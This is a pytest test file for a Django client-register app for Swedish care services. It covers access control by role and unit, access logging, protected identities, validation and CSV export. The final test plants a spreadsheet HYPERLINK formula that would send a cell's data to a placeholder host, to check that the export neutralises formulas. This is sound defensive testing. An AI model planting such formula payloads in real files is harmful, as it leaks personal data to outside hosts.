"""The client pages (list and search, card, register, correct, contacts, CSV export), each four ways:
anonymous, signed in without permission, with permission, and with permission but in another unit. Plus
team visibility for a medarbetare, the access log, protected identity, bad input, optimistic concurrency and
the list's query budget."""

import csv
import io
from typing import Any

import pytest
from django.db import connection
from django.test import Client as HttpClient
from django.test.utils import CaptureQueriesContext

from bista.clients import services
from bista.clients.models import AccessLogEntry, Client, ClientContact, ClientUnit
from bista.core.access import SYSTEM
from bista.core.models import AuditEvent
from bista.core.testing import Organisation
from bista.core.tests.api_support import audit_count, fake_personnummer, formatted
from bista.core.tests.pages import assert_login_redirect, browser

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_two_factor")]

ASTRID = fake_personnummer("19450307", 982)
BERTIL = fake_personnummer("19520612", 984)
CECILIA = fake_personnummer("19610405", 986)
NEW_NUMBER = fake_personnummer("19800101", 988)


# --- The world: three clients, four people ----------------------------------------------------------


@pytest.fixture
def astrid(org: Organisation) -> Client:
    """A client of the provider unit, in Team Ek."""
    return services.client_create(
        actor=SYSTEM,
        unit=org.provider,
        personnummer=ASTRID,
        first_name="Astrid",
        last_name="Lindqvist",
        street_address="Storgatan 1",
        postal_code="12345",
        city="Norrby",
        phone="070-000 00 00",
        teams=[org.team],
        fictitious=True,
    )


@pytest.fixture
def bertil(org: Organisation) -> Client:
    """A client of the same provider unit, in the other team (Team Björk)."""
    return services.client_create(
        actor=SYSTEM,
        unit=org.provider,
        personnummer=BERTIL,
        first_name="Bertil",
        last_name="Berglund",
        teams=[org.other_team],
        fictitious=True,
    )


@pytest.fixture
def cecilia(org: Organisation) -> Client:
    """A client of the unit in the other district."""
    return services.client_create(
        actor=SYSTEM,
        unit=org.other_unit,
        personnummer=CECILIA,
        first_name="Cecilia",
        last_name="Carlsson",
        street_address="Lönngatan 9",
        teams=[org.other_unit_team],
        fictitious=True,
    )


def body(response: Any) -> str:
    return response.content.decode()


def db_state() -> dict[str, Any]:
    """Everything a client page could change, to compare before and after a refused request."""
    return {
        "clients": sorted(
            Client.objects.values_list("pk", "first_name", "last_name", "phone", "city", "is_active", "version")
        ),
        "links": ClientUnit.objects.count(),
        "contacts": ClientContact.objects.count(),
        "audit": AuditEvent.objects.count(),
    }


def reads(client: Client, action: str | None = None) -> int:
    entries = AccessLogEntry.objects.filter(client=client)
    return entries.filter(action=action).count() if action else entries.count()


def create_data(org: Organisation, **overrides: Any) -> dict[str, Any]:
    return {
        "personnummer_input": formatted(NEW_NUMBER),
        "first_name": "Doris",
        "last_name": "Dahl",
        "unit": org.provider.pk,
        "teams": [org.team.pk],
        "gender": "K",
        "street_address": "Ekvägen 2",
        "postal_code": "12346",
        "city": "Norrby",
        "phone": "070-222 22 22",
        "email": "",
        "preferred_staff_gender": "",
        "language": "svenska",
        **overrides,
    }


def edit_data(client: Client, **overrides: Any) -> dict[str, Any]:
    """The edit form as the browser would send it for `client` unchanged (checkboxes only when ticked)."""
    data: dict[str, Any] = {
        "first_name": client.first_name,
        "last_name": client.last_name,
        "gender": client.gender,
        "street_address": client.street_address,
        "postal_code": client.postal_code,
        "city": client.city,
        "phone": client.phone,
        "email": client.email,
        "preferred_staff_gender": client.preferred_staff_gender,
        "language": client.language,
        "version": client.version,
    }
    for flag in ("interpreter_needed", "protected_identity", "is_active"):
        if getattr(client, flag):
            data[flag] = "on"
    data.update(overrides)
    return data


def contact_data(**overrides: Any) -> dict[str, Any]:
    return {"kind": "god_man", "name": "Gunnar Godman", "relation": "", "phone": "08-123 45", "email": "", **overrides}


# --- Anonymous --------------------------------------------------------------------------------------


@pytest.mark.parametrize("page", ["list", "create", "export", "card", "edit", "contact_add"])
def test_anonymous_get_goes_to_login(astrid: Client, page: str) -> None:
    path = {
        "list": "/brukare/",
        "create": "/brukare/ny/",
        "export": "/brukare/export/",
        "card": f"/brukare/{astrid.pk}/",
        "edit": f"/brukare/{astrid.pk}/andra/",
        "contact_add": f"/brukare/{astrid.pk}/kontakter/ny/",
    }[page]
    response = HttpClient().get(path)
    assert_login_redirect(response, path)
    assert "Astrid" not in body(response)
    assert reads(astrid) == 0


def test_anonymous_posts_change_nothing(org: Organisation, astrid: Client) -> None:
    before = db_state()
    anonymous = HttpClient()
    for path, data in [
        ("/brukare/ny/", create_data(org)),
        (f"/brukare/{astrid.pk}/andra/", edit_data(astrid, phone="1")),
        (f"/brukare/{astrid.pk}/kontakter/ny/", contact_data()),
    ]:
        assert_login_redirect(anonymous.post(path, data), path)
    assert db_state() == before
    assert reads(astrid) == 0


# --- Signed in without permission -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("page", "status"),
    [("list", 403), ("create", 403), ("export", 403), ("card", 404), ("edit", 404), ("contact_add", 404)],
)
def test_no_role_is_refused(astrid: Client, nobody: Any, page: str, status: int) -> None:
    path = {
        "list": "/brukare/",
        "create": "/brukare/ny/",
        "export": "/brukare/export/",
        "card": f"/brukare/{astrid.pk}/",
        "edit": f"/brukare/{astrid.pk}/andra/",
        "contact_add": f"/brukare/{astrid.pk}/kontakter/ny/",
    }[page]
    response = browser(nobody).get(path)
    assert response.status_code == status
    assert "Astrid" not in body(response)
    assert "Storgatan" not in body(response)
    assert reads(astrid) == 0


def test_no_role_posts_change_nothing(org: Organisation, astrid: Client, nobody: Any) -> None:
    before = db_state()
    client = browser(nobody)
    assert client.post("/brukare/ny/", create_data(org)).status_code == 403
    assert client.post(f"/brukare/{astrid.pk}/andra/", edit_data(astrid, phone="1")).status_code == 404
    assert client.post(f"/brukare/{astrid.pk}/kontakter/ny/", contact_data()).status_code == 404
    assert db_state() == before


@pytest.mark.parametrize("page", ["create", "export", "edit", "contact_add"])
def test_medarbetare_cannot_reach_manager_pages(astrid: Client, staffer: Any, page: str) -> None:
    path = {
        "create": "/brukare/ny/",
        "export": "/brukare/export/",
        "edit": f"/brukare/{astrid.pk}/andra/",
        "contact_add": f"/brukare/{astrid.pk}/kontakter/ny/",
    }[page]
    response = browser(staffer).get(path)
    assert response.status_code == 403
    assert "Storgatan" not in body(response)
    assert ASTRID[:8] not in body(response)
    assert reads(astrid) == 0  # refused before anything about the client was read


def test_medarbetare_posts_change_nothing(org: Organisation, astrid: Client, staffer: Any) -> None:
    before = db_state()
    client = browser(staffer)
    assert client.post("/brukare/ny/", create_data(org)).status_code == 403
    assert client.post(f"/brukare/{astrid.pk}/andra/", edit_data(astrid, phone="1")).status_code == 403
    assert client.post(f"/brukare/{astrid.pk}/kontakter/ny/", contact_data()).status_code == 403
    assert db_state() == before


# --- With permission --------------------------------------------------------------------------------


def test_list_with_permission(astrid: Client, bertil: Client, cecilia: Client, manager: Any) -> None:
    response = browser(manager).get("/brukare/")
    assert response.status_code == 200
    html = body(response)
    assert "Lindqvist, Astrid" in html
    assert formatted(ASTRID) in html
    assert "Berglund, Bertil" in html
    assert "Cecilia" not in html
    assert formatted(CECILIA) not in html
    assert 'href="/brukare/ny/"' in html
    assert 'href="/brukare/export/"' in html


def test_list_search_by_name_and_htmx_partial(astrid: Client, bertil: Client, manager: Any) -> None:
    client = browser(manager)
    html = body(client.get("/brukare/", {"q": "lindq"}))
    assert "Astrid" in html
    assert "Bertil" not in html
    partial = client.get("/brukare/", {"q": "bert"}, headers={"HX-Request": "true"})
    assert partial.status_code == 200
    assert "<html" not in body(partial)
    assert "Berglund, Bertil" in body(partial)
    assert "Astrid" not in body(partial)


def test_list_hides_inactive_unless_asked(astrid: Client, manager: Any) -> None:
    services.client_update(actor=SYSTEM, client=astrid, expected_version=None, is_active=False)
    client = browser(manager)
    assert "Astrid" not in body(client.get("/brukare/"))
    assert "Astrid" in body(client.get("/brukare/", {"inaktiva": "on"}))


def test_card_with_permission(org: Organisation, astrid: Client, manager: Any) -> None:
    services.client_contact_add(actor=SYSTEM, client=astrid, kind="god_man", name="Gunnar Godman")
    response = browser(manager).get(f"/brukare/{astrid.pk}/")
    assert response.status_code == 200
    html = body(response)
    assert "<h1>Astrid Lindqvist" in html
    assert formatted(ASTRID) in html
    assert "Storgatan 1, 12345 Norrby" in html
    assert "Gunnar Godman" in html
    assert f'href="/brukare/{astrid.pk}/andra/"' in html
    assert "Skyddade personuppgifter" not in html


def test_create_with_permission(org: Organisation, manager: Any) -> None:
    response = browser(manager).post("/brukare/ny/", create_data(org))
    client = Client.objects.get(personnummer=NEW_NUMBER)
    assert response.status_code == 302
    assert response["Location"] == f"/brukare/{client.pk}/"
    assert (client.first_name, client.last_name, client.gender, client.city) == ("Doris", "Dahl", "K", "Norrby")
    assert list(client.teams.all()) == [org.team]
    assert ClientUnit.objects.get(client=client).unit == org.provider
    event = AuditEvent.objects.get(action="client.create", object_id=str(client.pk))
    assert (event.actor, event.unit) == (manager, org.provider)
    assert event.new_values["personnummer"] == NEW_NUMBER


def test_create_form_offers_only_own_units_and_teams(org: Organisation, manager: Any) -> None:
    html = body(browser(manager).get("/brukare/ny/"))
    assert f'value="{org.team.pk}"' in html
    assert f'value="{org.other_unit_team.pk}"' not in html
    # As an option of the unit choice (a bare value="…" could be a team whose id happens to be the same).
    assert f'<option value="{org.other_unit.pk}"' not in html
    assert "Team Lönn" not in html


def test_edit_with_permission(org: Organisation, astrid: Client, manager: Any) -> None:
    client = browser(manager)
    form = client.get(f"/brukare/{astrid.pk}/andra/")
    assert form.status_code == 200
    assert 'name="version" value="1"' in body(form)
    response = client.post(f"/brukare/{astrid.pk}/andra/", edit_data(astrid, phone="08-765 43 21", city="Söderby"))
    assert response.status_code == 302
    assert response["Location"] == f"/brukare/{astrid.pk}/"
    astrid.refresh_from_db()
    assert (astrid.phone, astrid.city, astrid.version, astrid.is_active) == ("08-765 43 21", "Söderby", 2, True)
    event = AuditEvent.objects.get(action="client.update", object_id=str(astrid.pk))
    assert event.actor == manager
    assert event.old_values == {"phone": "070-000 00 00", "city": "Norrby"}
    assert event.new_values == {"phone": "08-765 43 21", "city": "Söderby"}


def test_contact_add_with_permission(astrid: Client, manager: Any) -> None:
    client = browser(manager)
    assert client.get(f"/brukare/{astrid.pk}/kontakter/ny/").status_code == 200
    response = client.post(f"/brukare/{astrid.pk}/kontakter/ny/", contact_data())
    assert response.status_code == 302
    contact = ClientContact.objects.get(client=astrid)
    assert (contact.kind, contact.name, contact.phone) == ("god_man", "Gunnar Godman", "08-123 45")
    assert audit_count("client_contact.add", actor=manager, object_id=str(contact.pk)) == 1
    assert "Gunnar Godman" in body(client.get(f"/brukare/{astrid.pk}/"))


def test_contact_add_bad_input_saves_nothing(astrid: Client, manager: Any) -> None:
    before = db_state()
    response = browser(manager).post(f"/brukare/{astrid.pk}/kontakter/ny/", contact_data(kind="kusin", name=""))
    assert response.status_code == 200
    assert "Typ:" in body(response)
    assert "Namn:" in body(response)
    assert db_state() == before


def test_export_with_permission(astrid: Client, bertil: Client, cecilia: Client, manager: Any) -> None:
    response = browser(manager).get("/brukare/export/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="brukare-')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Personnummer", "Förnamn", "Efternamn"]
    assert sorted(row[0] for row in rows[1:]) == sorted([formatted(ASTRID), formatted(BERTIL)])
    assert next(row for row in rows if row[1] == "Astrid")[4:7] == ["Storgatan 1", "12345", "Norrby"]
    assert "Cecilia" not in response.content.decode("utf-8-sig")


# --- With permission, but in another unit -----------------------------------------------------------


def test_list_in_another_unit_shows_nothing_of_ours(
    org: Organisation, astrid: Client, cecilia: Client, other_manager: Any
) -> None:
    client = browser(other_manager)
    for params in ({}, {"q": "Astrid"}, {"q": formatted(ASTRID)}, {"q": ASTRID[:8]}, {"enhet": org.provider.pk}):
        response = client.get("/brukare/", params)
        assert response.status_code == 200
        html = body(response)
        assert "Lindqvist" not in html
        assert f'href="/brukare/{astrid.pk}/"' not in html
        if params.get("q"):  # the search box repeats the query, nothing else may show it
            assert "Inga brukare hittades." in html
        else:
            assert "Astrid" not in html
            assert formatted(ASTRID) not in html
    assert "Cecilia" in body(client.get("/brukare/"))
    assert reads(astrid) == 0


@pytest.mark.parametrize("page", ["card", "edit", "contact_add"])
def test_client_pages_in_another_unit_are_not_found(astrid: Client, other_manager: Any, page: str) -> None:
    path = {
        "card": f"/brukare/{astrid.pk}/",
        "edit": f"/brukare/{astrid.pk}/andra/",
        "contact_add": f"/brukare/{astrid.pk}/kontakter/ny/",
    }[page]
    response = browser(other_manager).get(path)
    assert response.status_code == 404
    assert "Astrid" not in body(response)
    assert "Storgatan" not in body(response)
    assert reads(astrid) == 0


def test_unknown_client_looks_like_a_hidden_one(manager: Any) -> None:
    response = browser(manager).get("/brukare/987654/")
    assert response.status_code == 404
    assert "Sidan finns inte" in body(response)


def test_posts_in_another_unit_change_nothing(org: Organisation, astrid: Client, other_manager: Any) -> None:
    before = db_state()
    client = browser(other_manager)
    assert client.post(f"/brukare/{astrid.pk}/andra/", edit_data(astrid, phone="1")).status_code == 404
    assert client.post(f"/brukare/{astrid.pk}/kontakter/ny/", contact_data()).status_code == 404
    # Registering a client in our unit: the unit is not among the choices, so the form refuses it.
    response = client.post("/brukare/ny/", create_data(org, teams=[]))
    assert response.status_code == 200
    assert "Enhet:" in body(response)
    assert db_state() == before
    assert reads(astrid) == 0


def test_create_with_a_team_of_another_unit_is_refused(org: Organisation, manager: Any) -> None:
    before = db_state()
    response = browser(manager).post("/brukare/ny/", create_data(org, teams=[org.other_unit_team.pk]))
    assert response.status_code == 200
    assert "Arbetsgrupper" in body(response)
    assert db_state() == before


def test_export_of_another_unit_is_refused(org: Organisation, astrid: Client, other_manager: Any) -> None:
    response = browser(other_manager).get("/brukare/export/", {"enhet": org.provider.pk})
    assert response.status_code == 403
    assert formatted(ASTRID) not in body(response)
    assert reads(astrid) == 0


def test_export_in_another_unit_holds_only_its_clients(astrid: Client, cecilia: Client, other_manager: Any) -> None:
    response = browser(other_manager).get("/brukare/export/")
    text = response.content.decode("utf-8-sig")
    assert formatted(CECILIA) in text
    assert formatted(ASTRID) not in text
    assert "Astrid" not in text
    assert reads(astrid) == 0


# --- A medarbetare sees the clients of their teams --------------------------------------------------


def test_medarbetare_sees_only_clients_of_their_teams(astrid: Client, bertil: Client, staffer: Any) -> None:
    client = browser(staffer)
    response = client.get("/brukare/")
    assert response.status_code == 200
    assert "Lindqvist, Astrid" in body(response)
    assert "Bertil" not in body(response)
    assert formatted(BERTIL) not in body(response)
    assert "Bertil" not in body(client.get("/brukare/", {"q": formatted(BERTIL)}))
    assert client.get(f"/brukare/{astrid.pk}/").status_code == 200
    hidden = client.get(f"/brukare/{bertil.pk}/")
    assert hidden.status_code == 404
    assert "Bertil" not in body(hidden)
    assert reads(bertil) == 0


def test_medarbetare_card_has_no_edit_links(astrid: Client, staffer: Any) -> None:
    html = body(browser(staffer).get(f"/brukare/{astrid.pk}/"))
    assert f"/brukare/{astrid.pk}/andra/" not in html
    assert "/brukare/ny/" not in html


# --- The access log ---------------------------------------------------------------------------------


def test_card_writes_one_access_log_row(org: Organisation, astrid: Client, manager: Any) -> None:
    browser(manager).get(f"/brukare/{astrid.pk}/")
    entry = AccessLogEntry.objects.get(client=astrid)
    assert (entry.actor, entry.action, entry.unit, entry.protected_identity) == (
        manager,
        AccessLogEntry.Action.CARD,
        org.provider,
        False,
    )
    assert entry.request_id


def test_edit_page_writes_one_access_log_row(astrid: Client, manager: Any) -> None:
    browser(manager).get(f"/brukare/{astrid.pk}/andra/")
    assert reads(astrid) == 1
    assert reads(astrid, AccessLogEntry.Action.CARD) == 1


def test_contact_page_is_a_logged_read(astrid: Client, manager: Any) -> None:
    browser(manager).get(f"/brukare/{astrid.pk}/kontakter/ny/")
    assert reads(astrid) == 1


@pytest.mark.parametrize("query", [ASTRID, formatted(ASTRID), formatted(ASTRID)[2:], ASTRID[:8]])
def test_search_by_personnummer_logs_each_hit(astrid: Client, bertil: Client, manager: Any, query: str) -> None:
    response = browser(manager).get("/brukare/", {"q": query})
    assert "Astrid" in body(response)
    assert "Bertil" not in body(response)
    assert reads(astrid) == 1
    assert reads(astrid, AccessLogEntry.Action.SEARCH) == 1
    assert reads(bertil) == 0


def test_search_with_several_hits_logs_each(astrid: Client, manager: Any) -> None:
    twin = services.client_create(
        actor=SYSTEM,
        unit=astrid.unit_links.get().unit,
        personnummer=fake_personnummer("19450307", 990),
        first_name="Tvilling",
        last_name="Lindqvist",
        fictitious=True,
    )
    browser(manager).get("/brukare/", {"q": "19450307"})
    assert reads(astrid, AccessLogEntry.Action.SEARCH) == 1
    assert reads(twin, AccessLogEntry.Action.SEARCH) == 1


def test_search_by_name_and_plain_list_are_not_logged(astrid: Client, bertil: Client, manager: Any) -> None:
    client = browser(manager)
    client.get("/brukare/")
    client.get("/brukare/", {"q": "Astrid"})
    assert AccessLogEntry.objects.count() == 0


def test_export_logs_each_exported_client(org: Organisation, astrid: Client, bertil: Client, manager: Any) -> None:
    browser(manager).get("/brukare/export/")
    for client in (astrid, bertil):
        entry = AccessLogEntry.objects.get(client=client)
        assert (entry.action, entry.actor, entry.unit) == (AccessLogEntry.Action.EXPORT, manager, org.provider)


# --- Protected identity -----------------------------------------------------------------------------


@pytest.fixture
def protected(org: Organisation) -> Client:
    return services.client_create(
        actor=SYSTEM,
        unit=org.provider,
        personnummer=fake_personnummer("19700101", 992),
        first_name="Hemlig",
        last_name="Person",
        street_address="Gömdavägen 7",
        postal_code="11111",
        city="Någonstans",
        phone="070-999 99 99",
        protected_identity=True,
        teams=[org.team],
        fictitious=True,
    )


def test_protected_card_has_banner_and_hides_address(protected: Client, manager: Any) -> None:
    html = body(browser(manager).get(f"/brukare/{protected.pk}/"))
    assert "Skyddade personuppgifter" in html
    assert "Dold" in html
    assert "Gömdavägen" not in html
    assert "Någonstans" not in html
    assert "070-999" not in html
    entry = AccessLogEntry.objects.get(client=protected)
    assert entry.protected_identity is True


def test_protected_address_visible_to_the_access_group(org: Organisation, protected: Client, manager: Any) -> None:
    services.protected_access_grant(actor=SYSTEM, unit=org.provider, user=manager)
    html = body(browser(manager).get(f"/brukare/{protected.pk}/"))
    assert "Skyddade personuppgifter" in html
    assert "Gömdavägen 7, 11111 Någonstans" in html
    assert "Dold" not in html
    assert AccessLogEntry.objects.get(client=protected).protected_identity is True


def test_protected_address_hidden_again_after_revoke(org: Organisation, protected: Client, manager: Any) -> None:
    access = services.protected_access_grant(actor=SYSTEM, unit=org.provider, user=manager)
    services.protected_access_revoke(actor=SYSTEM, access=access)
    assert "Gömdavägen" not in body(browser(manager).get(f"/brukare/{protected.pk}/"))


def test_protected_card_for_medarbetare_hides_address(protected: Client, staffer: Any) -> None:
    html = body(browser(staffer).get(f"/brukare/{protected.pk}/"))
    assert "Skyddade personuppgifter" in html
    assert "Gömdavägen" not in html


def test_list_shows_no_personnummer_for_protected(astrid: Client, protected: Client, manager: Any) -> None:
    html = body(browser(manager).get("/brukare/"))
    assert "Person, Hemlig" in html
    assert formatted(protected.personnummer) not in html
    assert protected.personnummer not in html
    assert formatted(ASTRID) in html


def test_protected_clients_are_left_out_of_the_export(astrid: Client, protected: Client, manager: Any) -> None:
    response = browser(manager).get("/brukare/export/")
    text = response.content.decode("utf-8-sig")
    assert "Astrid" in text
    for secret in ("Hemlig", "Gömdavägen", "Någonstans", protected.personnummer[:8], "070-999"):
        assert secret not in text
    assert reads(protected) == 0
    assert reads(astrid, AccessLogEntry.Action.EXPORT) == 1


def test_protected_edit_page_hides_address_outside_access_group(protected: Client, manager: Any) -> None:
    response = browser(manager).get(f"/brukare/{protected.pk}/andra/")
    assert response.status_code in (200, 403)
    html = body(response)
    assert "Gömdavägen" not in html
    assert "070-999" not in html


# --- Bad input: a clear message naming the field, nothing saved -------------------------------------


@pytest.mark.parametrize(
    ("number", "message"),
    [
        ("19450307-9821", "kontrollsiffran stämmer inte"),
        ("19451332-9820", "födelsedatumet finns inte"),
        ("hej", "Personnumret ska skrivas"),
        ("19450307-000", "Personnumret ska skrivas"),
    ],
)
def test_create_with_invalid_personnummer(org: Organisation, manager: Any, number: str, message: str) -> None:
    before = db_state()
    response = browser(manager).post("/brukare/ny/", create_data(org, personnummer_input=number))
    assert response.status_code == 200
    html = body(response)
    assert "Rätta följande" in html
    assert "Personnummer:" in html  # the error summary names the field
    assert message in html
    assert 'href="#id_personnummer_input"' in html
    assert db_state() == before
    assert audit_count("client.create") == 0


def test_create_with_duplicate_personnummer(org: Organisation, astrid: Client, manager: Any) -> None:
    before = db_state()
    response = browser(manager).post("/brukare/ny/", create_data(org, personnummer_input=formatted(ASTRID)))
    assert response.status_code == 200
    assert "Personnummer: Det finns redan en brukare med det personnumret." in body(response)
    assert db_state() == before
    assert Client.objects.filter(personnummer=ASTRID).count() == 1


@pytest.mark.parametrize(
    ("overrides", "label"),
    [
        ({"first_name": ""}, "Förnamn"),
        ({"last_name": "x" * 101}, "Efternamn"),
        ({"last_name": "Ek\x00"}, "Efternamn"),
        ({"gender": "X"}, "Kön"),
        ({"email": "inte-en-adress"}, "E-post"),
        ({"unit": "abc"}, "Enhet"),
        ({"teams": ["abc"]}, "Arbetsgrupper"),
    ],
)
def test_create_bad_input_names_the_field(
    org: Organisation, manager: Any, overrides: dict[str, Any], label: str
) -> None:
    before = db_state()
    response = browser(manager).post("/brukare/ny/", create_data(org, **overrides))
    assert response.status_code == 200
    assert f"{label}:" in body(response)
    assert db_state() == before


@pytest.mark.parametrize(
    ("overrides", "label"),
    [({"first_name": ""}, "Förnamn"), ({"email": "nej"}, "E-post"), ({"version": "x"}, None), ({"gender": "Z"}, "Kön")],
)
def test_edit_bad_input_saves_nothing(
    astrid: Client, manager: Any, overrides: dict[str, Any], label: str | None
) -> None:
    before = db_state()
    response = browser(manager).post(f"/brukare/{astrid.pk}/andra/", edit_data(astrid, phone="1", **overrides))
    assert response.status_code == 200
    if label:
        assert f"{label}:" in body(response)
    assert db_state() == before


def test_create_with_a_huge_team_id_is_a_form_error(org: Organisation, manager: Any) -> None:
    before = db_state()
    response = browser(manager).post("/brukare/ny/", create_data(org, teams=["99999999999999999999"]))
    assert response.status_code == 200
    assert "Arbetsgrupper:" in body(response)
    assert db_state() == before


# --- Optimistic concurrency -------------------------------------------------------------------------


def test_stale_edit_shows_a_conflict_and_keeps_the_other_save(astrid: Client, manager: Any) -> None:
    client = browser(manager)
    assert 'name="version" value="1"' in body(client.get(f"/brukare/{astrid.pk}/andra/"))
    stale = edit_data(astrid, phone="08-111 11 11")
    # Meanwhile somebody else saves.
    services.client_update(actor=SYSTEM, client=astrid, expected_version=1, phone="08-222 22 22")
    response = client.post(f"/brukare/{astrid.pk}/andra/", stale)
    assert response.status_code == 200
    assert "Någon annan har ändrat" in body(response)
    astrid.refresh_from_db()
    assert (astrid.phone, astrid.version) == ("08-222 22 22", 2)
    assert audit_count("client.update", actor=manager) == 0


# --- Query budget -----------------------------------------------------------------------------------


def _add_clients(org: Organisation, first: int, last: int) -> None:
    for day in range(first, last + 1):
        services.client_create(
            actor=SYSTEM,
            unit=org.provider,
            personnummer=fake_personnummer(f"1950{(day - 1) // 28 + 1:02d}{(day - 1) % 28 + 1:02d}"),
            first_name=f"Namn{day}",
            last_name="Efternamn",
            teams=[org.team, org.other_team] if day % 2 else [org.team],
            fictitious=True,
        )


# Session read, user, memberships, grants (cached for the request), unit choices, visible clients (count and
# page), their teams (one prefetch), and the session save (three statements with its savepoint).
CLIENT_LIST_QUERIES = 11


def test_client_list_query_budget(org: Organisation, manager: Any, django_assert_max_num_queries: Any) -> None:
    client = browser(manager)
    _add_clients(org, 1, 10)
    client.get("/brukare/")  # warm up: content types, session
    with CaptureQueriesContext(connection) as ten:
        assert body(client.get("/brukare/")).count("Efternamn, Namn") == 10
    _add_clients(org, 11, 30)
    with django_assert_max_num_queries(CLIENT_LIST_QUERIES):
        assert body(client.get("/brukare/")).count("Efternamn, Namn") == 30
    with CaptureQueriesContext(connection) as thirty:
        client.get("/brukare/")
    assert len(ten) == len(thirty) <= CLIENT_LIST_QUERIES


# --- Export: what a spreadsheet would do with it ----------------------------------------------------


def test_export_neutralises_spreadsheet_formulas(org: Organisation, manager: Any) -> None:
    services.client_create(
        actor=SYSTEM,
        unit=org.provider,
        personnummer=NEW_NUMBER,
        first_name='=HYPERLINK("http://example.invalid/?x="&A2;"Klicka")',
        last_name="Formel",
        fictitious=True,
    )
    rows = list(
        csv.reader(io.StringIO(browser(manager).get("/brukare/export/").content.decode("utf-8-sig")), delimiter=";")
    )
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
